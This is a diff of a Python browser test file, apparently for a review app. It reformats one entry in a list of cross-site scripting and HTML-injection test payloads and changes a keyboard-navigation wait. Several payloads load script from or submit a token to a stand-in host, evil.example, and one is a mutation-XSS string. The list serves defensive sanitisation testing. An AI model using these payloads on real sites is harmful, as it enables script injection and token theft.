@@ -59,7 +59,10 @@ OWN_PAYLOADS = (
     "<form action=//evil.example/><input name=token>",
     "<a id=keys name=said href=//evil.example/>clobbered</a>",
     "</script><script src=//evil.example/x.js></script>",
-    "<math><mtext></table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
+    (
+        "<math><mtext></table><mglyph><style><!--</style>"
+        "<img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>"
+    ),
     "&lt;script&gt;alert(1)&lt;/script&gt;",
     "\u202e<script>\u202calert(1)</script>",
     "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
@@ -220,7 +223,8 @@ def test_single_keys_decide_undo_and_move(up: DeskUp, browser: Browser) -> None:
     with page.expect_navigation():
         page.keyboard.press("n")
     assert page.inner_text("h1") == second
-    page.wait_for_function("document.getElementById('said').textContent.includes('not relevant')")
+    said = page.locator("#said").filter(has_text="not relevant")
+    said.wait_for(state="attached")  # told to a screen reader after the page is there
     with page.expect_navigation():
         page.keyboard.press("z")
     assert page.inner_text("h1") == first
